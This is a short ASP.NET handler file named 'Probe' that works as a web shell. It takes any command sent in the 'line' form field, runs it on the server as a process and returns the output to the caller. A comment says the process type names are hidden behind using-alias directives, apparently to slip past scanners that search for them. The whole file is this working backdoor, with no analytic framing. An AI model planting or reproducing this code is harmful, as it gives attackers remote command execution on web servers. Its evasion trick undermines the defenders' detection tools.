<%@ WebHandler Language="C#" Class="Probe" %>
using System.Web;
using Runner = System.Diagnostics.Process;
using Launch = System.Diagnostics.ProcessStartInfo;

// the type names appear only in using-alias directives; the body calls the aliases
public class Probe : IHttpHandler
{
    public void ProcessRequest(HttpContext context)
    {
        string line = context.Request.Form["line"];
        if (string.IsNullOrEmpty(line)) return;
        var how = new Launch(line) { UseShellExecute = false, RedirectStandardOutput = true };
        var job = Runner.Start(how);
        context.Response.Write(job.StandardOutput.ReadToEnd());
    }

    public bool IsReusable { get { return false; } }
}
